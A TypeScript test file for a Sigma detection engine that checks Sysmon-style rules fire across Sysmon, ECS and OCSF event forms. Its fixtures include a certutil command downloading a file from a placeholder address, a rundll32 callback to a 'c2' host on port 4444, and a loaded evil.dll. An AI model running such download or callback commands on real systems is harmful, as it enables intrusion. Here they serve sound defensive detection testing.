import { readdirSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, test } from 'vitest';
import type { JsonObject } from '../src/model/json.ts';
import { logSourceSet, type LogSourceSet } from '../src/model/log-source.ts';
import { noContext, parseWith } from '../src/pipeline/normalize/test-parser-run.ts';
import { parsers } from '../src/server/parsers.ts';
import { createSigmaEngine } from '../src/sigma/engine.ts';
import { readRules } from '../src/sigma/read-rules.ts';
import type { SigmaRule } from '../src/sigma/rule.ts';
import type { Pipeline } from '../src/sigma/transform/pipeline.ts';
import { readPipelines } from '../src/sigma/transform/read-pipeline.ts';

/** Rules with Sysmon's field names find the same happening in whatever form it comes: Sysmon's own, ECS, OCSF. */

const { raw } = String;

interface Happening {
  readonly rules: Readonly<Record<string, string>>;
  readonly forms: Readonly<Record<'sysmon' | 'ecs' | 'ocsf', JsonObject>>;
}

const sysmon = (EventID: number, fields: JsonObject): JsonObject => ({
  EventTime: '2026-11-21T19:50:11Z', EventID, Channel: 'Microsoft-Windows-Sysmon/Operational', SourceName: 'Microsoft-Windows-Sysmon', Hostname: 'ws-17', ...fields,
}); // prettier-ignore

const ecs = (category: string, type: string, fields: JsonObject, action?: string): JsonObject => ({
  '@timestamp': '2026-11-21T19:50:11Z', ecs: { version: '8.11.0' }, event: { kind: 'event', category: [category], type: [type], action: action ?? type },
  host: { name: 'ws-17', os: { type: 'windows' } }, user: { name: 'SYSTEM', domain: 'NT AUTHORITY' }, ...fields,
}); // prettier-ignore

const ocsf = (class_uid: number, activity_id: number, fields: JsonObject): JsonObject => ({
  class_uid, activity_id, category_uid: 1, type_uid: class_uid * 100 + activity_id, severity_id: 1, time: 1_795_290_611_250, metadata: { version: '1.5.0', product: { name: 'Agent', vendor_name: 'Example' } },
  device: { hostname: 'ws-17', type_id: 2, os: { name: 'Windows', type_id: 100 } }, ...fields,
}); // prettier-ignore

const imphash = '0c'.repeat(16);
const sha256 = '0d'.repeat(32);

const happenings: Readonly<Record<string, Happening>> = {
  process_creation: {
    rules: {
      'image and parent': raw`selection: {Image|endswith: '\certutil.exe', ParentImage|endswith: '\cmd.exe'}`,
      'command line': `selection: {CommandLine|contains|all: [urlcache, '-f']}`,
      'renamed program': `selection: {OriginalFileName: CertUtil.exe}`,
      'user': raw`selection: {User|contains: 'AUTHORI', IntegrityLevel: System}`,
      'hash': `selection: {Hashes|contains: ['SHA256=${sha256}', 'IMPHASH=none']}`,
      'parent command line': `selection: {ParentCommandLine|contains: 'a.bat'}`,
      'folder': raw`selection: {CurrentDirectory|startswith: 'C:\Users\Public'}`,
    },
    forms: {
      sysmon: sysmon(1, { Image: raw`C:\Windows\System32\certutil.exe`, CommandLine: 'certutil -urlcache -f http://203.0.113.9/a a', OriginalFileName: 'CertUtil.exe', User: raw`NT AUTHORITY\SYSTEM`, IntegrityLevel: 'System', Hashes: `SHA256=${sha256.toUpperCase()}`, ParentImage: raw`C:\Windows\System32\cmd.exe`, ParentCommandLine: 'cmd /c a.bat', CurrentDirectory: raw`C:\Users\Public\ `.trim() }),
      ecs: ecs('process', 'start', { process: { executable: raw`C:\Windows\System32\certutil.exe`, command_line: 'certutil -urlcache -f http://203.0.113.9/a a', working_directory: raw`C:\Users\Public\ `.trim(), hash: { sha256 }, pe: { original_file_name: 'CertUtil.exe' }, Ext: { token: { integrity_level_name: 'system' } }, parent: { executable: raw`C:\Windows\System32\cmd.exe`, command_line: 'cmd /c a.bat' } } }),
      ocsf: ocsf(1007, 1, { process: { cmd_line: 'certutil -urlcache -f http://203.0.113.9/a a', working_directory: raw`C:\Users\Public\ `.trim(), integrity: 'System', file: { name: 'certutil.exe', path: raw`C:\Windows\System32\certutil.exe`, internal_name: 'CertUtil.exe', hashes: [{ algorithm: 'SHA-256', value: sha256 }] }, user: { name: 'SYSTEM', domain: 'NT AUTHORITY' } }, actor: { process: { cmd_line: 'cmd /c a.bat', file: { path: raw`C:\Windows\System32\cmd.exe` } } } }),
    },
  },
  network_connection: {
    rules: {
      'program to port': raw`selection: {Image|endswith: '\rundll32.exe', DestinationPort: 4444, Initiated: 'true'}`,
      'address': `selection: {DestinationIp|cidr: 203.0.113.0/24, Protocol: tcp}`,
      'host name': `selection: {DestinationHostname|endswith: .example.net}`,
    },
    forms: {
      sysmon: sysmon(3, { Image: raw`C:\Windows\System32\rundll32.exe`, Initiated: 'true', Protocol: 'tcp', SourceIp: '192.0.2.17', DestinationIp: '203.0.113.9', DestinationPort: '4444', DestinationHostname: 'c2.example.net' }),
      ecs: ecs('network', 'start', { process: { executable: raw`C:\Windows\System32\rundll32.exe` }, source: { ip: '192.0.2.17' }, destination: { ip: '203.0.113.9', port: 4444, domain: 'c2.example.net' }, network: { transport: 'tcp', direction: 'egress' } }),
      ocsf: ocsf(4001, 1, { actor: { process: { file: { path: raw`C:\Windows\System32\rundll32.exe` } } }, src_endpoint: { ip: '192.0.2.17' }, dst_endpoint: { ip: '203.0.113.9', port: 4444, hostname: 'c2.example.net' }, connection_info: { protocol_name: 'tcp', direction_id: 2 } }),
    },
  },
  dns_query: {
    rules: {
      'name': `selection: {QueryName|endswith: .example.net}`,
      'answer': `selection: {QueryResults|contains: 203.0.113.66}`,
      'program': raw`selection: {Image|endswith: '\powershell.exe', QueryName|contains: c2}`,
    },
    forms: {
      sysmon: sysmon(22, { Image: raw`C:\x\powershell.exe`, QueryName: 'c2.example.net', QueryResults: '::ffff:203.0.113.66;' }),
      ecs: ecs('network', 'protocol', { process: { executable: raw`C:\x\powershell.exe` }, dns: { question: { name: 'c2.example.net' }, answers: [{ data: '203.0.113.66' }] } }),
      ocsf: ocsf(4003, 1, { actor: { process: { file: { path: raw`C:\x\powershell.exe` } } }, query: { hostname: 'c2.example.net' }, answers: [{ rdata: '203.0.113.66' }] }),
    },
  },
  file_event: {
    rules: {
      'name': raw`selection: {TargetFilename|contains: '\Startup\', TargetFilename|endswith: .lnk}`,
      'program': raw`selection: {Image|endswith: '\winword.exe', TargetFilename|startswith: 'C:\Users'}`,
    },
    forms: {
      sysmon: sysmon(11, { Image: raw`C:\Office\WINWORD.EXE`, TargetFilename: raw`C:\Users\jo\Startup\a.lnk` }),
      ecs: ecs('file', 'creation', { process: { executable: raw`C:\Office\WINWORD.EXE` }, file: { path: raw`C:\Users\jo\Startup\a.lnk` } }),
      ocsf: ocsf(1001, 1, { actor: { process: { file: { path: raw`C:\Office\WINWORD.EXE` } } }, file: { name: 'a.lnk', path: raw`C:\Users\jo\Startup\a.lnk` } }),
    },
  },
  registry_set: {
    rules: {
      'value and number': raw`selection: {TargetObject|endswith: '\Policies\Example\DisableIt', Details: DWORD (0x00000001)}`,
      'hive': raw`selection: {TargetObject|startswith: 'HKLM\SOFTWARE'}`,
      'program': raw`selection: {Image|endswith: '\reg.exe', TargetObject|contains: '\Policies\'}`,
    },
    forms: {
      sysmon: sysmon(13, { EventType: 'SetValue', Image: raw`C:\x\reg.exe`, TargetObject: raw`HKLM\SOFTWARE\Policies\Example\DisableIt`, Details: 'DWORD (0x00000001)' }),
      ecs: ecs('registry', 'change', { process: { executable: raw`C:\x\reg.exe` }, registry: { path: raw`HKLM\SOFTWARE\Policies\Example\DisableIt`, value: 'DisableIt', data: { type: 'REG_DWORD', strings: ['1'] } } }),
      ocsf: ocsf(201002, 2, { actor: { process: { file: { path: raw`C:\x\reg.exe` } } }, reg_value: { path: raw`HKEY_LOCAL_MACHINE\SOFTWARE\Policies\Example`, name: 'DisableIt', type: 'REG_DWORD', data: 1 } }),
    },
  },
  image_load: {
    rules: {
      'library': raw`selection: {Image|endswith: '\rundll32.exe', ImageLoaded|endswith: '\evil.dll'}`,
      'hash': `selection: {Hashes|contains: 'IMPHASH=${imphash}'}`,
    },
    forms: {
      sysmon: sysmon(7, { Image: raw`C:\x\rundll32.exe`, ImageLoaded: raw`C:\x\evil.dll`, Hashes: `IMPHASH=${imphash}` }),
      ecs: ecs('library', 'start', { process: { executable: raw`C:\x\rundll32.exe` }, dll: { path: raw`C:\x\evil.dll`, pe: { imphash } } }),
      ocsf: ocsf(1005, 1, { actor: { process: { file: { path: raw`C:\x\rundll32.exe` } } }, module: { file: { name: 'evil.dll', path: raw`C:\x\evil.dll`, hashes: [{ algorithm: 'IMPHASH', value: imphash }] } } }),
    },
  },
}; // prettier-ignore

function hits(
  category: string,
  rules: Readonly<Record<string, string>>,
  form: JsonObject,
  through?: Pipeline,
): string[] {
  const texts = Object.entries(rules).map(([title, search]) => ({
    source: title,
    text: `title: ${title}\nlogsource: {product: windows, category: ${category}}\ndetection:\n  ${search}\n  condition: selection\n`,
  }));
  const read = readRules(texts, through === undefined ? {} : { pipelines: [through] });
  expect(read.problems).toEqual([]);
  const parsed = parseWith(parsers, JSON.stringify(form), noContext);
  if (parsed === undefined || !('kind' in parsed)) throw new Error('unreadable');
  if (through === undefined) return titles(read.rules, parsed.kind.logSources, parsed.fields);
  // without the connector's names, and without what it adds
  return titles(read.rules, logSourceSet(parsed.kind.logSources.sources), form);
}

function titles(rules: readonly SigmaRule[], logSources: LogSourceSet, fields: JsonObject): string[] {
  return createSigmaEngine(rules)
    .match(logSources, fields)
    .map(({ title }) => title);
}

function pipeline(name: string): Pipeline {
  const source = fileURLToPath(new URL(`../src/content/pipelines/${name}.yml`, import.meta.url));
  const { pipelines, problems } = readPipelines([{ source, text: readFileSync(source, 'utf8') }]);
  const [only] = pipelines;
  if (only === undefined || problems.length > 0) throw new Error(JSON.stringify(problems));
  return only;
}

describe('the pipelines that come with Vedette', () => {
  const shipped = { ecs: pipeline('sysmon_to_ecs'), ocsf: pipeline('sysmon_to_ocsf') };
  // in OCSF key and name of a value are two fields, and the end of their text is in neither
  const beyond: Readonly<Record<string, readonly string[]>> = { 'ocsf registry_set': ['value and number'] };

  test('are all tried here', () => {
    const folder = fileURLToPath(new URL('../src/content/pipelines', import.meta.url));
    expect(readdirSync(folder).sort()).toEqual(['sysmon_to_ecs.yml', 'sysmon_to_ocsf.yml']);
  });

  const cases = Object.entries(happenings).flatMap(([category, happening]) =>
    (['ecs', 'ocsf'] as const).map((form) => ({ category, form, happening })),
  );
  test.each(cases)('lead $category to $form by themselves', ({ category, form, happening: { rules, forms } }) => {
    const expected = Object.keys(rules).filter((title) => beyond[`${form} ${category}`]?.includes(title) !== true);
    expect(hits(category, rules, forms[form], shipped[form])).toEqual(expected);
  });
});

describe.each(Object.entries(happenings))('%s', (category, { rules, forms }) => {
  test.each(Object.entries(forms))('fires on %s', (_, form) => {
    expect(hits(category, rules, form)).toEqual(Object.keys(rules));
  });

  test('stays silent on every other happening, in whatever form', () => {
    for (const [other, { forms: others }] of Object.entries(happenings)) {
      if (other === category) continue;
      for (const form of Object.values(others)) expect(hits(category, rules, form)).toEqual([]);
    }
  });
});
